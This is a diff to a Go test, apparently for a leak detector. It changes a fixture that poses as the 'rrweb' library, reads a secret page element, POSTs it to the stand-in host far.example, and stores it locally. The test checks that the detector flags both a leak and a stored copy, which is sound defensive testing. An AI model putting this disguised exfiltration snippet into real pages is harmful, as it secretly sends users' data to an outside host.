@@ -81,7 +81,7 @@ checkpoint later
 `
 		code := `var rrweb = {record() { setTimeout(() => { const s = document.querySelector('#s').textContent;
 			fetch('https://far.example/v', {method: 'POST', body: s, mode: 'no-cors'});
-			const o = indexedDB.open('db'); o.onupgradeneeded = () => o.result.createObjectStore('st'); o.onsuccess = () => o.result.transaction('st', 'readwrite').objectStore('st').put(s, 'key') }, 500); return () => {} }};`
+			localStorage.k = s }, 500); return () => {} }};`
 		c := failed(runWith(ctx, text, code), "no leak")
 		Expect(c.Evidence).To(ConsistOf(HaveField("Kind", "leak"), HaveField("Kind", "stored")))
 	}, budget)
